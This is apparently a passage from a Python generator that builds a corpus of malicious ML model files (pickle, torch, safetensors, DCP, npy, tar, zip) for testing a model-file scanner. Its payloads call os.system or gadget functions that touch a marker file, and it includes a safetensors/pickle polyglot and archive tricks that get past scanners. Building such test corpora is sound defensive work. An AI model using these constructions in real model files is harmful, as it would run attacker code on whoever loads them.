    gadget("profilers_run.pt", "cProfile.run(source), profile.run(source), timeit.timeit(source): each executes it",
           tup(call(glob("cProfile", "run"), u(PY_MARKER)), call(glob("profile", "run"), u(PY_MARKER)),
               call(glob("timeit", "timeit"), u(PY_MARKER), i(1))),
           ["cProfile.run", "profile.run", "timeit.timeit"])
    gadget("doctest_debug_script.pt", "doctest.debug_script(source) runs the source under pdb",
           call(glob("doctest", "debug_script"), u(PY_MARKER)), ["doctest.debug_script"])
    gadget("pty_spawn.pt", "pty.spawn(['touch', marker])", call(glob("pty", "spawn"), lst(u("touch"), u(MARKER))),
           ["pty.spawn"])
    gadget("file_creating_openers.pt",
           "codecs.open, tarfile.open, gzip.open, bz2.open and lzma.open of the marker for writing: each creates it",
           tup(call(glob("codecs", "open"), u(MARKER), u("w")), call(glob("tarfile", "open"), u(MARKER), u("w")),
               call(glob("gzip", "open"), u(MARKER), u("wb")),
               tup(call(glob("bz2", "open"), u(MARKER), u("wb")), call(glob("lzma", "open"), u(MARKER), u("wb")))),
           ["codecs.open", "tarfile.open", "gzip.open", "bz2.open", "lzma.open"])
    gadget("shelve_open.pt", "shelve.open(marker) creates a database whose values it unpickles",
           call(glob("shelve", "open"), u(MARKER)), ["shelve.open"])
    gadget("pathlib_touch.pt", "methodcaller('touch')(pathlib.Path(marker))",
           call(method("touch"), call(glob("pathlib", "Path"), u(MARKER))), ["pathlib.Path", "operator.methodcaller"])


# --------------------------------------------------------------------------------------
# tensor_metadata, continued: tensors torch itself saved, then edited. torch writes the
# pickle and the records (zip_archive rewrites the archive around them); each edit is
# checked to hit exactly one place.

def torch_records(obj) -> list[tuple[str, bytes]]:
    """The records of torch.save(obj), in torch's order (torch 2.13: deterministic,
    the serialization id is a hash of the records)."""
    import zipfile

    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    with zipfile.ZipFile(buf) as z:
        return [(info.filename, z.read(info)) for info in z.infolist()]


def edited(records: list[tuple[str, bytes]], changes: dict[str, bytes]) -> bytes:
    """The archive again, written by zip_archive, with the records named in `changes`
    (names below archive/) replaced."""
    names = {name.split("/", 1)[1] for name, _ in records}
    assert set(changes) <= names, set(changes) - names
    return zip_archive([Entry(name, changes.get(name.split("/", 1)[1], data)) for name, data in records])


def replace_once(data: bytes, old: bytes, new: bytes, after: bytes = b"") -> bytes:
    """`data` with `old` replaced: its only occurrence, or with `after`, the first one
    after the only occurrence of `after`."""
    start = 0
    if after:
        assert data.count(after) == 1, after
        start = data.index(after)
    else:
        assert data.count(old) == 1, old
    at = data.index(old, start)
    return data[:at] + new + data[at + len(old):]


def safetensors_polyglot() -> bytes:
    """A file that the safetensors library reads as one uint8 tensor and pickle
    runs from byte 0: BINBYTES at byte 0 takes its length from the header's
    length bytes and lands in a run of NONE opcodes inside a metadata string; a
    SHORT_BINBYTES at the run's end skips the rest of the JSON, and the tensor's
    bytes are the payload."""
    payload = pkl(os_system(), 4)
    tail = '"},"t":{"dtype":"U8","shape":[' + str(len(payload)) + '],"data_offsets":[0,' + str(len(payload)) + "]}}"
    head = '{"__metadata__":{"p":"'
    for sled in range(8000, 9000):
        header = head + "N" * sled + "C" + chr(len(tail)) + tail
        n = len(header.encode())
        skipped = (n - 0x42) // 256
        landing = 5 + skipped - 8  # in the header
        if n % 256 == 0x42 and len(head) < landing < len(head) + sled:
            break
    assert 0x20 <= len(tail) < 0x7f and chr(len(tail)) not in '"\\'
    data = struct.pack("<Q", n) + header.encode() + payload
    assert data[0] == ord(BINBYTES)
    return data


def dcp_family(c: Corpus) -> None:
    """torch.distributed.checkpoint files: `.metadata`, whose name allows DCP's
    metadata classes and pathlib's paths and nothing more, and `.distcp`, one
    `torch.save` archive after another (tensor chunks, then byte items)."""
    fam = "dcp"
    dcp = "torch.distributed.checkpoint.metadata"

    def metadata(file, description, storage_value, dangerous):
        # What dcp.save pickles: Metadata built by NEWOBJ and BUILD, its storage
        # map keyed by MetadataIndex.
        index = glob(dcp, "MetadataIndex") + EMPTY_TUPLE + NEWOBJ + dct((u("fqn"), u("w"))) + BUILD
        state = dct((u("state_dict_metadata"), EMPTY_DICT), (u("planner_data"), NONE),
                    (u("storage_data"), dct((index, storage_value))))
        # Protocol 4, pickle.dump's default: a dotted name resolves attribute by attribute.
        data = pkl(glob(dcp, "Metadata") + EMPTY_TUPLE + NEWOBJ + state + BUILD, 4)
        c.add(file, fam, description, UNSAFE, data, dangerous, wellformed=data)

    metadata("__0.metadata", "a DCP .metadata whose storage map holds os.system(...)",
             os_system(), ["os.system"])
    metadata("__1.metadata",
             "a DCP .metadata: pathlib.PosixPath is allowed there, methodcaller('touch') of one is not",
             call(call(glob("operator", "methodcaller"), u("touch")), call(glob("pathlib", "PosixPath"), u(MARKER))),
             ["operator.methodcaller"])
    metadata("__2.metadata",
             "a DCP .metadata naming a method of an allowed class: PosixPath.write_text(PosixPath(marker), '')",
             call(glob("pathlib", "PosixPath.write_text"), call(glob("pathlib", "PosixPath"), u(MARKER)), u("")),
             ["pathlib.PosixPath.write_text"])
    item = tensor_checkpoint(pkl(tensor()))
    c.add("__0_0.distcp", fam,
          "a .distcp: a tensor chunk's archive, then a byte item's archive whose data.pkl is os.system(...)",
          MALFORMED, item + checkpoint(MALICIOUS_PKL), ["os.system"], wellformed=MALICIOUS_PKL)


def torch_tensor_family(c: Corpus) -> None:
    import warnings

    with warnings.catch_warnings():
        # Sparse CSR, nested and quantized tensors warn that they are beta or deprecated.
        warnings.simplefilter("ignore")
        _torch_tensor_cases(c)


def _torch_tensor_cases(c: Corpus) -> None:
    import torch

    fam = "tensor_metadata"

    def add(file, description, data):
        c.add(file, fam, description, MALFORMED, data)

    longs = lambda *v: struct.pack(f"<{len(v)}q", *v)  # noqa: E731 - int64 storage bytes
    with torch.sparse.check_sparse_tensor_invariants(False):
        csr = torch.sparse_csr_tensor(torch.tensor([0, 1, 2]), torch.tensor([0, 1]), torch.tensor([1.0, 2.0]),
                                      size=(2, 2))
        coo = torch.sparse_coo_tensor(torch.tensor([[0, 1], [1, 0]]), torch.tensor([1.0, 2.0]), size=(2, 2))
    records = torch_records({"w": csr})
    add("sparse_csr_col_index_out_of_range.pt",
        "a 2x2 sparse CSR tensor saved by torch, its col_indices storage edited to [0, 5]",
        edited(records, {"data/1": longs(0, 5)}))
    add("sparse_csr_crow_decreasing.pt",
        "a 2x2 sparse CSR tensor saved by torch, its crow_indices storage edited to [0, 2, 1]",
        edited(records, {"data/0": longs(0, 2, 1)}))
    add("sparse_coo_index_out_of_range.pt",
        "a 2x2 sparse COO tensor saved by torch, its indices storage edited to [[0, 1], [1, 7]]",
        edited(torch_records({"w": coo}), {"data/0": longs(0, 1, 1, 7)}))
    nested = torch.nested.nested_tensor([torch.tensor([1.0, 2.0]), torch.tensor([3.0, 4.0, 5.0])])
    add("nested_offsets_past_buffer.pt",
        "a nested tensor of 2 and 3 floats (a 5-float buffer) saved by torch, its offsets edited to [0, 4]: "
        "the second component reaches element 7",
        edited(torch_records({"w": nested}), {"data/3": longs(0, 4)}))

    q = torch.quantize_per_channel(torch.tensor([[1.0, 2.0], [3.0, 4.0]]),
                                   torch.tensor([0.1, 0.2], dtype=torch.float64), torch.tensor([0, 0]), 0, torch.qint8)
    records = torch_records({"w": q})
    pkl_bytes = dict(records)["archive/data.pkl"]
    size2 = BINPERSID + i(0) + i(2) + TUPLE1  # a 2-element tensor's storage id, offset 0 and size (2,)
    size1 = BINPERSID + i(0) + i(1) + TUPLE1
    scales = replace_once(pkl_bytes, size2, size1, after=glob("torch", "DoubleStorage"))
    add("qtensor_scales_wrong_length.pt",
        "a per-channel quantized 2x2 tensor (axis 0) saved by torch, its scales tensor edited to 1 element",
        edited(records, {"data.pkl": scales}))
    zeros = replace_once(pkl_bytes, size2, size1, after=glob("torch", "LongStorage"))
    add("qtensor_zero_points_wrong_length.pt",
        "a per-channel quantized 2x2 tensor (axis 0) saved by torch, its zero_points tensor edited to 1 element",
        edited(records, {"data.pkl": zeros}))
    axis = pkl_bytes.rindex(i(0) + TUPLE)  # the qscheme tuple ends with the axis
    assert pkl_bytes[axis + 3:axis + 4] == BINPUT, "the axis is not where torch 2.13 writes it"
    add("qtensor_axis_out_of_range.pt",
        "a per-channel quantized 2x2 tensor saved by torch, its axis edited from 0 to 5",
        edited(records, {"data.pkl": pkl_bytes[:axis] + i(5) + pkl_bytes[axis + 2:]}))

    class Wrapper(torch.Tensor):
        """A wrapper subclass (no storage of its own): torch saves it with _rebuild_wrapper_subclass."""

        @staticmethod
        def __new__(cls, elem):
            return torch.Tensor._make_wrapper_subclass(cls, elem.shape, dtype=elem.dtype, device=elem.device)

        @classmethod
        def __torch_dispatch__(cls, func, types, args=(), kwargs=None):
            return NotImplemented

    # pickle saves a class by name and checks the name finds it: give it one in this
    # module for the save (the name is edited out of the file below).
    Wrapper.__qualname__ = Wrapper.__name__ = "TensorplayCorpusWrapper"
    setattr(sys.modules[__name__], Wrapper.__name__, Wrapper)
    records = torch_records({"w": Wrapper(torch.zeros(2, 2))})
    pkl_bytes = dict(records)["archive/data.pkl"]
    plain = replace_once(pkl_bytes, glob(Wrapper.__module__, Wrapper.__qualname__), glob("torch", "Tensor"))
    add("wrapper_subclass_of_tensor.pt",
        "a wrapper-subclass tensor saved by torch, its class edited to torch.Tensor: "
        "_rebuild_wrapper_subclass(torch.Tensor, ...), which torch cannot build (no __torch_dispatch__)",
        edited(records, {"data.pkl": plain}))


def raw_tar_header(name: bytes, size: int, kind: bytes, magic: bool = True) -> bytes:
    """A tar header block as tarfile reads it, of any type byte; without the ustar
    magic it is a V7 header. The checksum is summed last."""
    block = bytearray(512)
    block[0:len(name)] = name
    block[100:108] = b"0000644\0"
    block[108:116] = block[116:124] = b"0000000\0"
    block[124:136] = b"%011o\0" % size
    block[136:148] = b"00000000000\0"
    block[156:157] = kind
    if magic:
        block[257:265] = b"ustar\x0000"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def tar_member(name: bytes, data: bytes, kind: bytes = b"0", magic: bool = True) -> bytes:
    return raw_tar_header(name, len(data), kind, magic) + data + b"\0" * (-len(data) % 512)


def reader_model_family(c: Corpus) -> None:
    """Classes the oracle harness (tests/oracle/) found, where the scanner read a
    format differently from the reader that runs it, or passed bytes over by name:
    each file's payload is run by the readers it names (checked in CI)."""
    fam = "reader_model"
    payload = b"cposix\nsystem\n(" + text_string(TOUCH) + b"tR."
    end = b"\0" * 1024

    def add(file, description, load_error, data, dangerous, readers):
        c.add(file, fam, description, load_error, data, dangerous, readers=readers)

    add("tar_unknown_type_member.tar",
        "a tar member of type 'Z', which tarfile does not know and so hands out as a regular file "
        "(a scanner that reads types 0 and NUL only passed it over)",
        UNSUPPORTED, tar_member(b"model.pkl", payload, b"Z") + end, ["posix.system"], ["tarfile+pickle"])
    folder = raw_tar_header(b"weights/", 512 + 512, b"5")
    add("tar_member_behind_folder_header.tar",
        "a folder header whose size field claims the next 1024 bytes: tarfile skips no data of a folder, "
        "so it reads the member header that follows (a scanner that skipped size bytes never saw it)",
        UNSUPPORTED, folder + tar_member(b"model.pkl", payload) + end, ["posix.system"], ["tarfile+pickle"])
    link = raw_tar_header(b"latest", 1024, b"2")
    add("tar_member_behind_link_header.tar.gz",
        "the same behind a symbolic link's header, gzipped: tarfile reads the member a link's size "
        "field claims to cover",
        MALFORMED, gzipped(link + tar_member(b"model.pkl", payload) + end), ["posix.system"], ["tarfile+pickle"])
    add("tar_v7_no_magic.tar",
        "a V7 tar header (no ustar magic at byte 257), which tarfile opens as it opens any other",
        UNSUPPORTED, tar_member(b"model.pkl", payload, b"0", magic=False) + end, ["posix.system"],
        ["tarfile+pickle", "pandas.read_pickle[x.tar]"])
    for file, descr, what in (
            ("npy_object_dtype_less_than_O.npy", "'<O'", "a byte order before O"),
            ("npy_object_dtype_word.npy", "'object'", "the type's name"),
            ("npy_object_dtype_O8.npy", "'O8'", "a size after O"),
            ("npy_object_dtype_escaped.npy", "'\\x4f'", "an escape inside the Python literal"),
            ("npy_object_dtype_concatenated.npy", "'|' 'O'", "two literals Python concatenates"),
            ("npy_object_field_nested.npy", "[('a', [('b', 'O')])]", "a nested structured field")):
        header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode("latin1")
        header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
        data = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + MALICIOUS_PKL
        add(file, f"an .npy whose object dtype is spelt {descr} ({what}): numpy.load(allow_pickle=True) "
            "unpickles the rest of the file", MALFORMED, data, ["os.system"], ["numpy.load"])
    add("zip_member_without_proto.zip",
        "a zip's one member, named as pandas names it (no .pkl), a protocol 0 pickle (no PROTO): pandas "
        "reads a zip's single member whatever its name",
        MALFORMED, zip_archive([Entry("weights", payload, align=False)]), ["posix.system"],
        ["pandas.read_pickle[x.zip]", "zipfile+pickle"])
    add("zip_member_name_with_nul.zip",
        "a member named 'model.pkl\\0.txt': CPython's zipfile cuts a name at its first NUL, so a "
        "program asking for model.pkl unpickles it",
        MALFORMED, zip_archive([Entry("model.pkl\0.txt", payload, align=False)]), ["posix.system"],
        ["pandas.read_pickle[x.zip]", "zipfile+pickle"])


def build() -> Corpus:
    c = Corpus()
    code_execution(c)
    scanner_evasion(c)
    numpy_family(c)
    legacy_family(c)
    resource_family(c)
    tensor_family(c)
    compressed_family(c)
    zip_confusion_family(c)
    pickle_differential_family(c)
    nested_family(c)
    gadget_family(c)
    dcp_family(c)
    torch_tensor_family(c)
    reader_model_family(c)
    return c


def write(out: pathlib.Path) -> Corpus:
    corpus = build()
    files = out / "files"
    if files.exists():
        shutil.rmtree(files)
    files.mkdir(parents=True)
    for name, data in corpus.files.items():
        (files / name).write_bytes(data)
    (out / "manifest.json").write_text(json.dumps(corpus.manifest, indent=1) + "\n")
    return corpus


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--out", type=pathlib.Path, default=HERE, help="folder for files/ and manifest.json")
    args = parser.parse_args()
    corpus = write(args.out)
    print(f"wrote {len(corpus.files)} files to {args.out / 'files'}")


if __name__ == "__main__":
    main()
